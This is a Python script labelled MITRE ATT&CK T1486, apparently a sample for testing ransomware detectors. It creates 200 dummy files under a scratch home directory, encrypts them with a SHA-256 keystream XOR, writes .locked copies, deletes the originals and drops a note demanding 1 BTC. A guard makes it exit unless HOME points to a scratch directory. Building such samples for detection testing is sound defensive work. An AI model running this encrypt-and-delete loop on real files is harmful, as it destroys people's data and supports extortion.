# technique: T1486
"""Data Encrypted for Impact (T1486): every document under a tree is
read, encrypted (a SHA-256 keystream XOR, standing in for AES), written to
<name>.locked and the original deleted; a ransom note is dropped in each
directory.

Builds a scratch tree ~/Documents with 200 files in 10 folders first (the
victim data), then walks it with os.walk and, per file: open/read,
open(new, "wb")/write, os.remove(original). Bounded: a few hundred small
files.

A good detector raises a high alert: one process rewrites many files
under a tree into new names with an unusual extension and deletes the
originals (ransomware behaviour).
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import hashlib
import os

root = os.path.join(os.path.expanduser("~"), "Documents")
for d in range(10):
    sub = os.path.join(root, f"project-{d}")
    os.makedirs(sub, exist_ok=True)
    for i in range(20):
        with open(os.path.join(sub, f"report-{i}.docx"), "w") as f:
            f.write(f"quarterly figures {d}-{i}\n" * 20)

key = hashlib.sha256(b"victim-id-42").digest()


def keystream(n):
    out = b""
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(key + counter.to_bytes(8, "big")).digest()
        counter += 1
    return out[:n]


count = 0
for dirpath, _, files in os.walk(root):
    for name in files:
        if name.endswith(".locked") or name == "README-RESTORE.txt":
            continue
        src = os.path.join(dirpath, name)
        with open(src, "rb") as f:
            data = f.read()
        with open(src + ".locked", "wb") as f:
            f.write(bytes(a ^ b for a, b in zip(data, keystream(len(data)))))
        os.remove(src)
        count += 1
    with open(os.path.join(dirpath, "README-RESTORE.txt"), "w") as f:
        f.write("Your files are encrypted. Send 1 BTC to ...\n")
print("encrypted", count)
